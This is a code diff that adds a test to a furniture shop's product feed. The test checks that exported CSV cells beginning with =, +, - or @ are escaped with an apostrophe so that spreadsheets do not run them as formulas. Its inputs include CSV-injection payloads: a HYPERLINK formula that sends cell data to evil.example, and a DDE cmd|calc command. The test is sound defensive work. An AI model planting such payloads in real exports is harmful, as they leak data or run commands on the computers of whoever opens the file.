@@ -3,7 +3,7 @@ import { parse as parseCsv } from "csv-parse/sync";
 import { XMLParser } from "fast-xml-parser";
 import { beforeAll, describe, expect, it } from "vitest";
 import { readyBy } from "../../../domain/catalog/furniture";
-import { adminCookie } from "../../../tests/support/admin-session";
+import { adminCookie, imageDataUrl } from "../../../tests/support/admin-session";
 import { insertCollection, insertProduct, makeImage } from "../../../tests/support/catalog-factory";
 import { TEST_SITE, useTestApp } from "../../../tests/support/test-app";
 import { productImages, productOptions, products } from "../../db/schema/catalog";
@@ -380,6 +380,46 @@ describe("GET /feeds/meta.csv", () => {
     });
     expect(byId.has(ids.draft!)).toBe(false);
     expect(byId.has(ids.options!)).toBe(false);
+  });
+});
+
+describe("a spreadsheet opening the Meta feed", () => {
+  it("runs no formula: a cell starting with = + - or @ starts with an apostrophe instead", async () => {
+    const cookie = await adminCookie(t);
+    const added = await t.app.inject({
+      method: "POST",
+      url: "/api/admin/operations/addProduct",
+      headers: { cookie },
+      payload: {
+        name: '=HYPERLINK("https://evil.example/?d="&A1,"Sofa")',
+        description: "<p>-2+3 weeks to make</p>",
+        items: "1 sofa",
+        price: 400000,
+        category: "Living Room",
+        style: "Modern",
+        make: "@SUM(1+1)",
+        materials: "+cmd|' /C calc'!A0",
+        images: [await imageDataUrl("#996633")],
+        options: [{ name: "=1+1" }, { name: "Oak" }],
+      },
+    });
+    expect(added.statusCode, added.body).toBe(201);
+    const id = added.json<{ _id: string }>()._id;
+
+    const rows = metaRows((await read("/feeds/meta.csv")).body).filter((row) => row.item_group_id === id);
+    expect(rows).toHaveLength(2);
+    for (const row of rows) {
+      expect(row).toMatchObject({
+        title: expect.stringMatching(/^'=HYPERLINK\(/),
+        description: "'-2+3 weeks to make",
+        brand: "'@SUM(1+1)",
+        material: "'+cmd|' /C calc'!A0",
+      });
+    }
+    expect(rows.map((row) => row.color)).toEqual(["'=1+1", "Oak"]);
+    // Every other cell of the feed is as it was: no apostrophe where none is needed.
+    const others = metaRows((await read("/feeds/meta.csv")).body).filter((row) => row.item_group_id !== id);
+    expect(others.flatMap((row) => Object.values(row)).filter((cell) => cell.startsWith("'"))).toEqual([]);
   });
 });
 
